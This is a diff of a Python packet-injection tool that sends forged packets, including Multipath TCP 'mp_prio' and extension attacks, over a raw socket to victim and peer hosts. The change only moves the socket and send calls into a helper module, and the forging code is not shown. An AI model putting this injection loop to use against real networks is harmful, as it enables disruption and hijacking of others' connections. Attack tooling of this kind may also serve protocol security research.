@@ -40,7 +40,6 @@ from __future__ import annotations
 import argparse
 import json
 import random
-import socket
 import sys
 import time
 
@@ -195,7 +194,7 @@ def main(argv: list[str] | None = None) -> int:
     # One raw IP socket for the whole run (the kernel routes, resolves the next hop and
     # sends our headers as they are): scapy's send() opens a socket per call, which put
     # some 50 ms between deciding to strike and the packet on the wire.
-    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    sock = attacks.raw_socket()
     rng, advance = random.Random(args.seed), {}
     victim, peer = set(args.victim), set(args.peer)
     # The tap is read on from where it stopped: a command costs what was written since.
@@ -245,15 +244,13 @@ def main(argv: list[str] | None = None) -> int:
                 recorded = record_learner.feed(record_tap()).knowledge()
             packets = forge(attack, shape, k, args, rng, advance, time.time(), own, recorded)
             sent_at = time.time()
-            for pkt in packets:
-                sock.sendto(bytes(pkt), (pkt["IP"].dst, 0))
+            attacks.send_raw(sock, packets)
             if attack in attacks.EXTENSION_ATTACKS:
                 args.counter += 3  # the next claims must be fresh too
                 if packets:
                     time.sleep(CLAIM_SETTLE)
                     prio = forge("mp_prio", shape, k, args, rng, advance, time.time())
-                    for pkt in prio:
-                        sock.sendto(bytes(pkt), (pkt["IP"].dst, 0))
+                    attacks.send_raw(sock, prio)
                     packets += prio
         except (OSError, ValueError) as e:
             print(json.dumps({"error": str(e)}), flush=True)
